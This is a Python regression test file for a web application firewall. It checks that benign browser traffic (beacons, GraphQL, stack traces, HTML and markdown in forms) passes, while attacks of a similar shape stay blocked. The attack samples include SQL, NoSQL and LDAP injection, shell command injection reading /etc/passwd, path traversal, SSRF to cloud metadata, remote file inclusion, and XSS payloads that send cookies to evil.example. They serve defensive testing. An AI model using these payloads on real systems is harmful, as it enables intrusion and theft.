"""One regression test per class of real browser traffic that used to be blocked (issue 11). Every
request here is synthetic: written for this test to have the shape of its class, never copied from a
recording. Each class also keeps an attack of the same shape blocked, so a fix cannot be "skip it"."""

from __future__ import annotations

import base64
import gzip
import json
from urllib.parse import quote

from waf import Request, inspect

UA = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36"
XHR = {"User-Agent": UA, "Sec-Fetch-Mode": "cors", "Sec-Fetch-Site": "same-site", "Content-Type": "application/json"}
FORM = {**XHR, "Content-Type": "application/x-www-form-urlencoded"}  # a page's script posting a form


def passes(req: Request) -> bool:
    v = inspect(req)
    return not v.blocked


def test_session_id_named_fields_in_beacons_and_api_calls_pass():
    beacon = json.dumps({"events": [{"name": "scroll", "session_id": "s-81723", "ts": 1700000000123}]})
    assert passes(Request.make("POST", "/collect", XHR, beacon))
    assert passes(Request.make("GET", "/api/feed?sessionId=7f3a9c&page=2", {**XHR, "Sec-Fetch-Mode": "cors"}))
    assert passes(Request.make("GET", "/watch?v=9&sid=42", {"Sec-Fetch-Mode": "navigate", "Sec-Fetch-Site": "same-origin"}))
    # fixation: a link from elsewhere (or no Fetch Metadata at all) carrying a platform session id
    assert inspect(Request.make("GET", "/login?PHPSESSID=attacker123", {"Referer": "https://evil.example/"})).blocked


def test_content_hashed_asset_names_pass():
    for path in ("/static/js/283.eff9f9d3.chunk.js", "/bfs/player/main/widgets/npd.953.e2c41a.js",
                 "/assets/index.7.e4b2.css"):  # fmt: skip
        assert passes(Request.make("GET", path, {"User-Agent": UA, "Referer": "https://shop.example/x?spm=5176.ecs.0.0"}))
    assert inspect(Request.make("GET", "/?id=1.e(ascii(substr(user(),1,1)))")).blocked


def test_compressed_protobuf_and_binary_beacons_pass():
    proto = bytes([0x0A, 0x06]) + b"021436" + bytes([0x12, 0x1C]) + b"https://www.example.com/v/?a=1" + bytes(
        [0x1A, 0x04, 0x08, 0x00, 0x10, 0x0D, 0x22, 0x0A]) + b"\r\n\x00' or 1=1 --" * 4  # fmt: skip
    for ctype in ("application/x-protobuf", "text/plain", ""):
        assert passes(Request.make("POST", "/log", {**XHR, "Content-Type": ctype}, proto))
    assert passes(Request.make("POST", "/log", {**XHR, "Content-Type": "application/x-protobuf", "Content-Encoding": "gzip"}, gzip.compress(proto)))
    # a JSON value that is bytes in disguise (a session-replay chunk read as Latin-1)
    blob = "".join(chr(0x80 + (i * 37) % 0x60) + chr(0x01 + i % 20) + "'#$g(" for i in range(40))
    assert passes(Request.make("POST", "/replay", XHR, json.dumps({"replayContent": blob, "seq": 3})))


def test_cr_lf_inside_json_strings_passes():
    doc = {"responseHeaders": "content-type: application/json\r\ncontent-length: 29\r\nx-server-cost: 3",
           "message": "Sign-in failed.\r\nCorrelation ID: 5a1c\r\nTimestamp: 2024-01-01"}  # fmt: skip
    assert passes(Request.make("POST", "/apm", XHR, json.dumps(doc)))
    assert passes(Request.make("POST", "/oauth", FORM, "error_description=Sign-in+failed.%0D%0ACorrelation+ID%3A+5a1c"))
    assert inspect(Request.make("GET", "/r?next=%0D%0ASet-Cookie:%20admin=1")).blocked


def test_javascript_stack_traces_and_multiline_queries_in_json_pass():
    stack = ("TypeError: Cannot read properties of undefined (reading 'id')\n"
             "    at $g (https://cdn.example.com/vendors/react-dom.production.min.js:110:8)\n"
             "    at Object.$emit (https://cdn.example.com/app.3f2a9c.js:1:2345)\n    at a.seajs (webpack:///./src/x.js:2:1)")  # fmt: skip
    gql = "query Feed($first: Int) {\n  feed(first: $first) {\n    id\n    handle\n    name\n    type\n  }\n}"
    assert passes(Request.make("POST", "/errors", XHR, json.dumps([{"stack": stack, "level": "error"}])))
    assert passes(Request.make("POST", "/graphql", XHR, json.dumps({"query": gql, "variables": {"first": 10}})))
    assert inspect(Request.make("POST", "/x", XHR, json.dumps({"host": "127.0.0.1; cat /etc/passwd"}))).blocked


def test_private_addresses_in_analytics_beacons_pass():
    doc = {"entries": [{"server_ip": "127.0.0.1:8081", "name": "/api/x", "duration": 12}], "tz": "UTC+8:0",
           "counters": ["10.0.0.7:9002"]}  # fmt: skip
    assert passes(Request.make("POST", "/rum", XHR, json.dumps(doc)))
    assert inspect(Request.make("GET", "/fetch?url=http://169.254.169.254/latest/meta-data/")).blocked


def test_inert_javascript_links_and_search_text_pass():
    click = json.dumps({"attributes": json.dumps({"role": "menuitem", "href": "javascript:void(0)"})})
    assert passes(Request.make("POST", "/track", XHR, click))
    assert passes(Request.make("GET", "/a?url=javascript:;", {"User-Agent": UA}))
    assert passes(Request.make("GET", "/", {"Referer": "https://search.example/?q=site:docs.example.com union select"}))
    assert passes(Request.make("GET", "/search?q=for+power%2C+binary%3Cscript+is+incorrect"))
    assert inspect(Request.make("GET", "/a?url=javascript:alert(document.cookie)")).blocked


def test_opaque_tokens_and_package_configs_pass():
    assert passes(Request.make("POST", "/s", FORM, "v_7e0e=iHrCbZnNhecBOKOJCZEpDosdvpn%24O&p=securityGroupCount%3A1%24r"))
    assert passes(Request.make("GET", "/pkgs/@scope/widget-search/config.json", {"User-Agent": UA}))
    assert inspect(Request.make("GET", "/.git/config")).blocked


def test_markdown_yaml_and_theme_text_in_forms_pass():
    md = "Wrap code in backticks (`` ` ``)\r\nCode blocks go between fences:\r\n\r\n```\r\n# a heading\r\n```"
    theme = '{"type": "dark", "colors": {"activityBar.background": "#1e1e1e", "editor.foreground": "#d4d4d4"}}'
    yaml_doc = "items:\n  - name: 'Array'\n---\nnext: 'Object'\n---"
    for text in (md, theme, yaml_doc):
        from urllib.parse import quote_plus

        assert passes(Request.make("POST", "/save", FORM, "code=" + quote_plus(text)))
    assert inspect(Request.make("GET", "/login?user=admin'%23")).blocked


def test_urls_with_empty_parameters_and_opaque_tokens_pass():
    url = "proxy_url%3Dhttps%3A%2F%2Fexample.com%2Fp.html%26daid%3D5%26%26hide_title_bar%3D1"
    assert passes(Request.make("GET", f"/login?from={url}", XHR))
    assert passes(Request.make("POST", "/s", FORM, "v_7e0e=u4Ka+Z%24b14-lnNZOJuCW7TmthFNIKP5o%249PR+p%24xKFObZOeNaMRTmeHaHiaplrXWB+-"))
    assert inspect(Request.make("GET", "/?q=1'%20%26%26%201%3D1--")).blocked


def test_session_ids_in_websocket_handshakes_same_site_links_and_iframes_pass():
    ws = {"User-Agent": UA, "Upgrade": "websocket", "Connection": "Upgrade", "Sec-WebSocket-Version": "13",
          "Sec-WebSocket-Key": "dGhlIHNhbXBsZSBub25jZQ==", "Origin": "https://player.example"}  # fmt: skip
    assert passes(Request.make("GET", "/socket.io/?sessionid=Qx81-kd_3aL&EIO=4&transport=websocket", ws))
    nav = {"User-Agent": UA, "Sec-Fetch-Mode": "navigate", "Sec-Fetch-Dest": "document"}
    assert passes(Request.make("GET", "/s?session_id=7731&f=all", {**nav, "Sec-Fetch-Site": "same-site"}))
    widget = {**nav, "Sec-Fetch-Site": "cross-site", "Sec-Fetch-Dest": "iframe"}
    assert passes(Request.make("GET", "/embed?sessionId=3f9a-1c2e&mode=CHAT", widget))
    legacy = {"Host": "shop.example", "Referer": "https://shop.example/cart"}
    assert passes(Request.make("GET", "/checkout?jsessionid=A81F", legacy))
    # fixation: a link on another site or opened from outside the browser (a mail), or no Fetch Metadata
    for site in ("cross-site", "none"):
        assert inspect(Request.make("GET", "/login?PHPSESSID=attacker1", {**nav, "Sec-Fetch-Site": site})).blocked
    assert inspect(Request.make("GET", "/login?jsessionid=A81F", {"Host": "shop.example", "Referer": "https://evil.example/"})).blocked
    assert inspect(Request.make("GET", "/login?jsessionid=A81F", {"Host": "shop.example"})).blocked


def test_graphql_documents_are_read_as_graphql():
    doc = ("query Feed($first: Int, $loggedIn: Boolean!) {\n  feed(first: $first) {\n    id\n"
           "    ...FeedPost @include(if: $loggedIn)\n    bookmarked @skip(if: $anonymous)\n  }\n}\n"
           'fragment FeedPost on Post { title search(q: "eval and exec") }')  # fmt: skip
    assert passes(Request.make("POST", "/graphql", XHR, json.dumps({"query": doc, "variables": {"first": 10}})))
    # an injection in a string literal of the document, or a `query` field that is no GraphQL, is seen
    hostile = '{ user(name: "x\' or 1=1--") { id } }'
    assert inspect(Request.make("POST", "/graphql", XHR, json.dumps({"query": hostile}))).blocked
    assert inspect(Request.make("POST", "/api", XHR, json.dumps({"query": "@include($_GET['f'])"}))).blocked
    assert inspect(Request.make("POST", "/graphql", XHR, json.dumps({"query": "{ a }", "variables": {"n": "' or 1=1--"}}))).blocked


def test_sql_typed_as_search_text_passes():
    from urllib.parse import quote

    searches = ["select 1 from a", "SELECT * FROM orders WHERE orders.code = 'c-77' LIMIT 1;",
                "union select 关键字怎么用", "how to use the SELECT INTO OUTFILE S3 statement to export a table",
                "sql注入的“or 1=1，or 1=2”是什么意思？"]  # fmt: skip
    for text in searches:
        assert passes(Request.make("GET", "/search?q=" + quote(text), {"User-Agent": UA})), text
    # the same box carrying an injection: a closed string, a cut or a stacked statement, a tautology
    for attack in ("x' or 'a'='a", "select * from users--", "1; drop table orders", "1or1=1", "' union select 1,2--"):
        assert inspect(Request.make("GET", "/search?q=" + quote(attack))).blocked, attack


def test_search_dsls_code_and_keyword_named_json_keys_pass():
    from urllib.parse import quote

    dsl = 'title="sql" && product="wordpress" || author=="CT Stack"'
    ref = {"User-Agent": UA, "Referer": "https://app.example/poc?search=" + quote(quote(dsl))}
    assert passes(Request.make("GET", "/api/unread", ref))
    beacon = {"d": "ac=tl&key=seo_union&val=" + quote(json.dumps({"type": "pc", "union": "u1", "order": 2}))}
    assert passes(Request.make("POST", "/collect", XHR, json.dumps(beacon)))
    code = "w < 1420 ? $('#box_4f')&& (shown = true) : $('#box_9c')&& (shown = false)"
    assert passes(Request.make("POST", "/ad/log", XHR, json.dumps([quote(json.dumps({"snippet": code}))])))
    assert inspect(Request.make("GET", "/api/unread", {"Referer": "https://app.example/?q=" + quote("x\" && 1=1 --")})).blocked
    assert inspect(Request.make("POST", "/collect", XHR, json.dumps({"d": "x' union select null,version()--"}))).blocked


# --- command injection and traversal (waf/_shell.py, waf/_traversal.py) ----------------------------------


def test_prose_lists_and_text_tables_with_separators_pass():
    # an article pasted into a search box: pipes of a text table, `mysql>` prompts, semicolons in prose
    article = ("Export data from MySQL | on 15 JUN | in Databases | Permalink | Field | Type | Null | Key | "
               "Run the following code: mysql> create user demo@% identified by password; mysql> grant all")  # fmt: skip
    assert passes(Request.make("GET", "/search?q=" + quote(article), {"User-Agent": UA}))
    tags = json.dumps({"nav": [{"title": "", "text": "frontend;backend;mobile;languages;java;"}]})
    assert passes(Request.make("POST", "/action", XHR, tags))
    assert passes(Request.make("POST", "/talk", FORM, "note=" + quote("is not technical;in nature will be removed.;history;")))
    assert inspect(Request.make("GET", "/search?q=" + quote("127.0.0.1; cat /etc/passwd"))).blocked
    assert inspect(Request.make("GET", "/search?q=" + quote("x & net user"))).blocked
    assert inspect(Request.make("POST", "/action", XHR, json.dumps({"text": "a;sh -c id"}))).blocked


def test_random_bot_sensor_blobs_pass():
    import random  # noqa: PLC0415
    import string  # noqa: PLC0415

    rng = random.Random(7)
    blob = "".join(rng.choice(string.ascii_letters + string.digits + string.punctuation + " ") for _ in range(2500))
    blob = blob[:300] + ">(6}|y~kg" + blob[300:900] + "j$VAn${r%Q" + blob[900:1500] + "|nc>ol%<<<<x" + blob[1500:]
    v = inspect(Request.make("POST", "/Vyd/TkY", XHR, json.dumps({"sensor_data": blob})))
    assert not [m for m in v.matches if m.category in ("rce", "lfi", "rfi")]
    assert inspect(Request.make("POST", "/Vyd/TkY", XHR, json.dumps({"sensor_data": "$(whoami)"}))).blocked
    assert inspect(Request.make("POST", "/Vyd/TkY", XHR, json.dumps({"sensor_data": blob + ";cat /etc/passwd"}))).blocked


def test_url_path_templates_in_rum_beacons_pass():
    line = "resource,app=web resource_url_path_group=/res/style/e/?/mini_close.png,resource_url_path=/api/*/users"
    assert passes(Request.make("POST", "/write/rum", {**XHR, "Content-Type": "text/plain"}, line))
    assert inspect(Request.make("GET", "/x?c=" + quote("/???/??t /???/p??s??"))).blocked


def test_escaped_json_and_opaque_tokens_in_form_fields_pass():
    theme = '{"name":"customTheme","value":"{\\n\\t\\"type\\": \\"dark\\",\\n\\t\\"colors\\": {\\n\\t\\t\\"groups\\": 1}}"}'
    assert passes(Request.make("POST", "/", FORM, "e=" + quote(theme)))
    token = "e3WlSA4$s6S9Yxc9Wvc4p20knoWKkO$KdVJO2esTtb2ptb5nW$peQtYFpd$BGIhICq9X -"
    assert passes(Request.make("POST", "/challenge", FORM, "v_7e0e=" + quote(token)))
    assert inspect(Request.make("POST", "/", FORM, "e=" + quote("w'h'o'am'i"))).blocked
    assert inspect(Request.make("POST", "/", FORM, "e=" + quote("c${u}url http://198.51.100.2/x"))).blocked


def test_display_urls_and_code_with_dot_dot_pass():
    results = json.dumps([{"dispUrl": "blog.example.com/someone/article/details/...", "title": "WAF"}])
    assert passes(Request.make("POST", "/recommend", XHR, results))
    poc = {"code": "name: poc\r\nrules:\r\n  r0:\r\n    request:\r\n      path: /app/x.dll?page=../../AutoCE.ini\r\n"}
    assert passes(Request.make("POST", "/poc/create", XHR, json.dumps(poc)))
    code = {"source": "import { a } from '../../lib/a';\nimport b from '../../../b';\n"}
    assert passes(Request.make("POST", "/snippets", XHR, json.dumps(code)))
    assert inspect(Request.make("POST", "/recommend", XHR, json.dumps({"dispUrl": "../../../../etc/passwd"}))).blocked
    assert inspect(Request.make("POST", "/poc/create", XHR, json.dumps({"code": "a\npath: ../../../etc/shadow"}))).blocked


def test_home_folder_segment_passes():
    assert passes(Request.make("GET", "/api/resource/v1/folders/~?sortType=updateDate", {"User-Agent": UA}))
    assert inspect(Request.make("GET", "/index.php~")).blocked


def test_file_urls_and_empty_queries_in_telemetry_pass():
    rum = json.dumps({"resources": [{"n": "file:///"}, {"n": "file:///C:/Users/me/page.html"},
                                    {"n": "https://app.example.com/cdn-cgi/rum?"}], "page_url": "https://app.example.com/?"})  # fmt: skip
    assert passes(Request.make("POST", "/cdn-cgi/rum", XHR, rum))
    assert inspect(Request.make("GET", "/show?src=file:///etc/passwd")).blocked
    assert inspect(Request.make("GET", "/show?page=https://evil.example/shell?")).blocked
    assert inspect(Request.make("POST", "/show", XHR, json.dumps({"page": "http://evil.example/shell.txt?"}))).blocked


def test_html_documents_in_form_fields_and_json_values_pass():
    """Code playgrounds and page builders post whole HTML documents: blank lines between their tags are
    no response splitting (a second response starts after an empty line that no markup precedes)."""
    doc = "<!DOCTYPE html>\r\n<html lang=\"en\">\r\n\r\n<head>\r\n  <title>Demo</title>\r\n</head>\r\n\r\n<body>\r\n  <div id=\"root\"></div>\r\n</body>\r\n</html>\r\n"
    form = {**XHR, "Content-Type": "application/x-www-form-urlencoded", "Sec-Fetch-Mode": "navigate"}
    from urllib.parse import quote_plus

    assert passes(Request.make("POST", "/run?file=demo.tsx", form, "project%5Bfiles%5D%5Bindex.html%5D=" + quote_plus(doc)))
    assert passes(Request.make("POST", "/store", XHR, json.dumps({"data": {"files": [{"content": doc.replace("\r\n", "\n")}]}})))
    # splitting: a value ending the headers and starting a body of its own
    assert inspect(Request.make("POST", "/r", form, "lang=en%0D%0A%0D%0A%3Chtml%3E%3Cbody%3Epwned")).blocked
    assert inspect(Request.make("POST", "/r", XHR, json.dumps({"lang": "en\r\n\r\n<html><body>pwned"}))).blocked


def test_text_posted_as_a_form_body_by_a_script_passes():
    """A page's script posting text with a form Content-Type: the parser splits the text at `&` and
    `=`, so "names" are multi-line fragments of it."""
    form = {**XHR, "Content-Type": "application/x-www-form-urlencoded;charset=UTF-8"}
    text = "Items per page\r\n  default: 20\r\n  max: 100\r\nSort order\r\n  default=asc"
    assert passes(Request.make("POST", "/fcf.html?a=1", form, text))
    # CR/LF in a parameter name of a URL, or in the path
    assert inspect(Request.make("GET", "/get?parameter%0d%0a=test", {"User-Agent": UA})).blocked
    assert inspect(Request.make("GET", "/foo%0abar", {"User-Agent": UA})).blocked


def test_javascript_function_sources_in_telemetry_pass():
    # a page's own script logging the source of its handlers (fn.toString()) with an event
    fn = 'function(e){try{render(document.querySelector("div[".concat(k,"]")))}catch(err){}}'
    logs = {"__logs__": [{"name": "handler", "value": fn}, {"name": "nav", "value": "function(){return window.location.href}"}]}
    assert passes(Request.make("POST", "/logstores/track", XHR, json.dumps(logs)))
    # the same field carrying code that runs: a quote breakout, an invoked function literal
    assert inspect(Request.make("POST", "/logstores/track", XHR, json.dumps({"value": "';alert(document.cookie)//"}))).blocked
    iife = "x');(function(){document.location='//evil.example/?'+document.cookie})()//"
    assert inspect(Request.make("POST", "/logstores/track", XHR, json.dumps({"value": iife}))).blocked


def test_helper_function_sources_posted_as_form_fields_pass():
    from urllib.parse import urlencode

    helpers = {"unique": "function(){var r=[],s={};for(var i=0;i<this.length;i++){if(!s[this[i]]){r.push(this[i]);s[this[i]]=1}}return r}",
               "clone": "function () { return this.slice(0); }"}  # fmt: skip
    assert passes(Request.make("POST", "/fp.html?a=1", FORM, urlencode(helpers)))
    attack = urlencode({"unique": "function(){return require('child_process').execSync('id')}()"})
    assert inspect(Request.make("POST", "/fp.html?a=1", FORM, attack)).blocked


def test_jsx_in_code_editor_saves_passes():
    jsx = ("const App = () => (\n  <Dropdown menu={{ items }}>\n    <a onClick={(e) => e.preventDefault()}>\n"
           "      <Space>Hover me</Space>\n    </a>\n  </Dropdown>\n);\nexport default App;\n")  # fmt: skip
    assert passes(Request.make("POST", "/editor/process", {**XHR, "Sec-Fetch-Mode": "same-origin"}, json.dumps([{"textInput": jsx}])))
    for attack in ("<img src=x onerror=alert(1)>", "<a onClick={alert(document.cookie)}>x</a>"):
        assert inspect(Request.make("POST", "/editor/process", XHR, json.dumps([{"textInput": attack}]))).blocked


def test_session_replay_tag_names_and_inert_link_targets_pass():
    replay = {"Evts": [{"Kind": 2, "Args": [12, "<META", "<IFRAME", "<DIV", {"href": "javascript:void 0;"}]}]}
    assert passes(Request.make("POST", "/rec/bundle", {**XHR, "Content-Type": "text/plain"}, json.dumps(replay)))
    for attack in ("<iframe src=javascript:alert(1)>", "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
                   "javascript:void 0;alert(1)"):  # fmt: skip
        assert inspect(Request.make("POST", "/rec/bundle", XHR, json.dumps({"Args": [attack]}))).blocked


def test_quoted_file_names_in_search_and_data_urls_as_paths_pass():
    # a search box's text with quotes inside a word that names a file, not a command
    assert passes(Request.make("GET", "/complete/search?client=chrome&q=" + quote("pass'w'd"), {"User-Agent": UA}))
    # a broken `src` requested as a relative path: a data: URL's `;base64` is a MIME parameter
    assert passes(Request.make("GET", "/data:;base64,=", {"User-Agent": UA}))
    assert inspect(Request.make("GET", "/complete/search?q=" + quote("w'h'o'am'i"))).blocked
    assert inspect(Request.make("GET", "/data:;cat%20%2Fetc%2Fpasswd")).blocked


def test_upstream_addresses_in_admin_json_configs_pass_the_rfi_rules():
    site = json.dumps({"name": "shop", "upstreams": ["http://127.0.0.1", "http://10.0.0.5:9200/"], "tls": False})
    v = inspect(Request.make("PUT", "/api/Website", XHR, site))
    assert not [m for m in v.matches if m.category == "rfi"]
    assert inspect(Request.make("PUT", "/api/Website", XHR, json.dumps({"tpl": "http://198.51.100.7/shell.txt?"}))).blocked
    assert inspect(Request.make("GET", "/index.php?page=http://198.51.100.7")).blocked


def test_rich_text_html_with_media_and_icons_passes():
    post = ('<p>Release notes</p><p><img src="https://cdn.example.com/u/42/shot.png" alt="screenshot" width="640"></p>'
            '<video src="https://media.example.com/demo.mp4" controls poster="https://media.example.com/demo.jpg"></video>'
            '<p><svg class="icon" viewBox="0 0 24 24"><use href="#icon-check"></use></svg> done</p>'
            '<p><img src="data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg=="></p>')  # fmt: skip
    assert passes(Request.make("POST", "/api/posts", XHR, json.dumps({"title": "v2", "content": post})))
    form = {"User-Agent": UA, "Sec-Fetch-Mode": "navigate", "Content-Type": "application/x-www-form-urlencoded"}
    from urllib.parse import urlencode

    assert passes(Request.make("POST", "/comment", form, urlencode({"body": post})))
    for attack in ('<video src=x onerror="alert(1)">', '<svg><set attributeName=href to="javascript:alert(1)">',
                   '<img src=x onerror=alert(document.domain)>'):  # fmt: skip
        assert inspect(Request.make("POST", "/comment", form, urlencode({"body": attack}))).blocked


def test_source_snippets_in_error_reports_pass():
    # an error tracker's event: the lines of source around the failing one, sent by the page's script
    event = {"exception": {"values": [{"type": "TypeError", "stacktrace": {"frames": [{
        "filename": "https://app.example.com/static/js/main.3f2a9c.js", "function": "render", "lineno": 41,
        "pre_context": ["  const el = document.getElementById('out');", "  if (!el) return;"],
        "context_line": "  el.innerHTML = template(data); document.title = data.title;",
        "post_context": ["  setTimeout(refresh, 5000);", "}"]}]}}]}}  # fmt: skip
    assert passes(Request.make("POST", "/api/42/store/", XHR, json.dumps(event)))
    # the same sink behind a breakout in a JSON value; and run as it is in a link a victim follows
    assert inspect(Request.make("POST", "/api/42/store/", XHR, json.dumps({"message": "x';document.location='//e/'+document.cookie//"}))).blocked
    nav = {"User-Agent": UA, "Sec-Fetch-Mode": "navigate", "Sec-Fetch-Site": "cross-site"}
    assert inspect(Request.make("GET", "/search?q=document.getElementById('out').innerHTML%3Dlocation.hash", nav)).blocked
    assert inspect(Request.make("GET", "/search?cb=alert(document.domain)", nav)).blocked


def test_inline_images_and_cidr_blocks_pass():
    """Session-replay beacons carry screenshots as `data:image/png;base64,...`; cloud consoles post
    security-group rules with CIDR blocks (`0.0.0.0/0`)."""
    png = "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=="
    replay = json.dumps({"Evts": [{"Kind": 2, "Args": [7, "img", {"src": png}]}]})
    assert passes(Request.make("POST", "/rec/bundle", {**XHR, "Content-Type": "text/plain"}, replay))
    rules = json.dumps([{"IpProtocol": "tcp", "PortRange": "443/443", "SourceCidrIp": "0.0.0.0/0"}])
    from urllib.parse import quote_plus

    assert passes(Request.make("POST", "/sg/permissions.json", FORM, "authorizePermissions=" + quote_plus(rules)))
    # the same shapes as attacks: PHP code labelled as an image, an internal address as a URL
    php = "data:image/png;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOyA/Pg=="
    assert inspect(Request.make("GET", "/view?file=" + quote_plus(php), {"User-Agent": UA})).blocked
    assert inspect(Request.make("GET", "/fetch?url=127.0.0.1/admin", {"User-Agent": UA})).blocked


def test_html_email_templates_with_style_blocks_pass():
    email = ("<html><head><style>@media (max-width:600px){.col{width:100%!important}}"
             "@font-face{font-family:Brand;src:url(https://cdn.example.com/brand.woff2)}"
             ".hero{background:url(https://cdn.example.com/hero.jpg) no-repeat}</style></head>"
             "<body><table class=\"col\"><tr><td>Hello {{first_name}}</td></tr></table></body></html>")  # fmt: skip
    assert passes(Request.make("POST", "/api/campaigns/7/template", XHR, json.dumps({"html": email})))
    for attack in ("<style>@import'//evil.example/x.css';</style>", "<style>li{list-style-image:url(\"javascript:alert(1)\")}</style>"):
        assert inspect(Request.make("POST", "/api/campaigns/7/template", XHR, json.dumps({"html": attack}))).blocked


def test_stack_frames_named_like_php_functions_and_java_type_arguments_pass():
    stack = ("Error: logout (event)\n    at u (https://console.example.com/:307:12811)\n"
             "    at a.seajs.cb.exec (https://cdn.example.com/dest/platform.f6e3d4.js?max_age=31536000:1:252999)\n"
             "    at eval (eval at run (https://cdn.example.com/app.js:1:2), <anonymous>:1:1)")  # fmt: skip
    assert passes(Request.make("POST", "/event?e=cgi-error", {**XHR, "Content-Type": "text/plain"}, json.dumps([{"stack": stack}])))
    err = "JSON parse error: Cannot deserialize instance of `java.util.ArrayList<java.lang.Integer>` out of START_OBJECT"
    assert passes(Request.make("POST", "/collect", XHR, json.dumps({"error": err})))
    assert inspect(Request.make("POST", "/event", XHR, json.dumps([{"stack": stack + "\n" + "system('id')"}]))).blocked
    assert inspect(Request.make("POST", "/collect", XHR, json.dumps({"type": "java.lang.Integer"}))).blocked


def test_delimited_word_lists_and_markdown_tables_pass():
    for q in ("pets=dog|cat", "langs=python|java|go", "fields=id;type;name", "cols=title|date|type"):
        assert passes(Request.make("GET", "/api/list?" + q.replace("|", "%7C"), {"User-Agent": UA})), q
    table = "| ID | Name | Type |\n|---|---|---|\n| 1 | disk | ssd |"
    assert passes(Request.make("POST", "/issues", XHR, json.dumps({"body": table})))
    assert passes(Request.make("POST", "/wiki", FORM, "text=" + quote("| Command | What it does |\n|---|---|\n| ls | lists |")))
    assert inspect(Request.make("GET", "/api/list?pets=" + quote("dog|cat /etc/passwd"))).blocked
    assert inspect(Request.make("GET", "/api/list?host=" + quote("127.0.0.1|who"))).blocked
    assert inspect(Request.make("POST", "/issues", XHR, json.dumps({"body": "|id"}))).blocked


def test_markdown_pipe_tables_command_lines_and_code_in_values_pass():
    note = ("| rule | what | blocked |\n|---|---|---:|\n| 210102 | sqli: UNION SELECT | 58 |\n\n"
            "Run it with `--format cilium`; the commands `show w' and `show c' print the terms.\n"
            "```\n$ tool --dry-run -- -----BEGIN CERTIFICATE-----\n```")  # fmt: skip
    code = "if (x) {\n  supportsView && hasTag(new View(8));\n}\nconsole.log(\"### ready\", argv.indexOf(\"--\"));"
    from urllib.parse import quote_plus

    assert passes(Request.make("POST", "/notes", FORM, "body=" + quote_plus(note)))
    assert passes(Request.make("POST", "/snippets", XHR, json.dumps({"code": code, "lang": "js"})))
    # the same fields carrying injections
    assert inspect(Request.make("POST", "/notes", FORM, "body=" + quote_plus("x' union select password from users--"))).blocked
    assert inspect(Request.make("POST", "/snippets", XHR, json.dumps({"code": "1 and sleep(5)"}))).blocked


def test_settings_text_shaped_like_event_handlers_passes():
    prefs = {"filters": "onsale=1&instock=1", "status": "online=yes", "flags": "mode=dark; onboarding=done"}
    assert passes(Request.make("POST", "/api/prefs", XHR, json.dumps(prefs)))
    assert passes(Request.make("GET", "/shop?f=onsale%3D1", {"User-Agent": UA, "Sec-Fetch-Mode": "navigate"}))
    for attack in ('" onmouseover="alert(document.domain)', "x' onfocus=location=name autofocus '"):
        assert inspect(Request.make("POST", "/api/prefs", XHR, json.dumps({"status": attack}))).blocked


def test_dollar_words_prices_templates_analytics_and_schemas_pass_the_nosql_rules():
    """`$` words that are not MongoDB operators in a key's place (issue 11, NoSQL detector): prices,
    i18n templates, shell variables in docs, jQuery, GraphQL variables, analytics properties, JSON
    Schema and .NET type hints, a Strapi-style filter API."""
    i18n = json.dumps({"greeting": "Hello ${name}", "price": "US$ 12", "promo": "Save $5 today", "$schema": "x"})
    assert passes(Request.make("POST", "/i18n", XHR, i18n))
    beacon = json.dumps({"event": "view", "properties": {"$distinct_id": "u-1", "$insert_id": "a9", "$os": "Linux",
                         "$browser": "Chrome", "$current_url": "https://shop.example/p/2"}})  # fmt: skip
    assert passes(Request.make("POST", "/track", XHR, beacon))
    schema = json.dumps({"$schema": "https://json-schema.org/draft/2020-12/schema", "$id": "p", "$defs": {"a": {}},
                         "properties": {"b": {"$ref": "#/$defs/a"}}, "$type": "App.Models.Item, App"})  # fmt: skip
    assert passes(Request.make("PUT", "/schemas/p", XHR, schema))
    doc = "Your files are in $HOME/bin. Then call $('#menu').on('click', open); it costs $in total."
    assert passes(Request.make("POST", "/wiki", XHR, json.dumps({"body": doc})))
    gql = json.dumps({"query": "query Items($in: [ID!], $first: Int) { items(ids: $in, first: $first) { id } }",
                      "variables": {"in": ["1"], "first": 2}})  # fmt: skip
    assert passes(Request.make("POST", "/graphql", XHR, gql))
    assert passes(Request.make("GET", "/api/articles?filters[slug][$eq]=about&populate=*", XHR))
    # the same places holding an operator where a scalar was expected
    assert not passes(Request.make("POST", "/login", XHR, json.dumps({"user": "a", "password": {"$ne": None}})))
    assert not passes(Request.make("GET", "/login?user=admin&password[$regex]=.*", XHR))
    assert not passes(Request.make("GET", "/api/articles?filters[slug][$where]=sleep(100)", XHR))


def test_parentheses_in_prose_maths_emoticons_and_code_pass_the_ldap_rule():
    """Parentheses that hold no LDAP filter (issue 11, LDAP detector): prose asides, phone numbers,
    emoticons, maths, JavaScript calls and search words with `*`."""
    assert passes(Request.make("GET", "/search?q=" + quote("Paris (France) (2019) :-)( cheap* flights"), XHR))
    notes = {"note": "see (a=b)(c=d) above (555) 123-4567", "code": "(function(){ track(e=n) })(window);"}
    assert passes(Request.make("POST", "/notes", XHR, json.dumps(notes)))
    assert passes(Request.make("GET", "/directory?who=" + quote("jane.doe@example.org (Sales)"), XHR))
    # the same search box closing the application's filter and opening its own
    assert not passes(Request.make("GET", "/directory?who=" + quote("jane)(|(objectClass=*))"), XHR))
    assert not passes(Request.make("POST", "/notes", XHR, json.dumps({"who": "*)(uid=*))(|(uid=*"})))


def test_multi_line_text_mentioning_mail_headers_and_commands_passes_the_mail_rules():
    """CR/LF in text values (issue 11, mail detector): logged headers with `from:`, multi-line postal
    addresses, stack traces of functions named `list`/`select`, a text area that quotes an e-mail."""
    doc = {"headers": "host: shop.example\r\nfrom: crawler@example.org\r\naccept: */*",
           "address": "Jane Doe\r\n1 Main Street\r\nSpringfield",
           "stack": "Error: boom\n    at select (app.js:1:2)\n    at list (app.js:3:4)",
           "comment": "Please see the mail below.\nSubject: order 1234\nFrom: Jane <jane@example.org>\nData attached."}  # fmt: skip
    assert passes(Request.make("POST", "/feedback", XHR, json.dumps(doc)))
    assert passes(Request.make("POST", "/contact", FORM, "message=" + quote(doc["comment"]) + "&name=Jane"))
